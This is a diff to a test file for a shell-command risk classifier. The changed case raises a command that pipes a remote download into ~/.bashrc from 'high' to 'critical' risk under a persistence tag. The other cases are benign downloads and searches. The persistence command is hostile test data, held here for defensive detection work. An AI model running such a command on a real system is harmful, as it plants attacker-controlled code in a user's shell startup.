@@ -52,7 +52,7 @@ runCases('http', [
   { command: 'curl -o node.tar.gz https://nodejs.org/dist/v20.0.0/node-v20.0.0-linux-x64.tar.xz', risk: 'low', rules: ['http.download'] },
   { command: 'curl -LO https://github.com/cli/cli/releases/download/v2.0.0/gh_2.0.0_linux_amd64.tar.gz', risk: 'low', rules: ['http.download'] },
   { command: 'wget https://example.com/file.zip', risk: 'low' },
-  { command: 'curl -fsSL https://example.com/x > ~/.bashrc', risk: 'high', tags: ['persistence'] },
+  { command: 'curl -fsSL https://example.com/x > ~/.bashrc', risk: 'critical', tags: ['persistence'] },
   { command: 'wget -r -np https://docs.example.com/', risk: 'medium', rules: ['http.download'] },
   { command: 'echo "curl -X DELETE https://api.github.com/repos/acme/web"', risk: 'low' },
   { command: 'grep -rn "volumeDelete" src/', risk: 'low' },
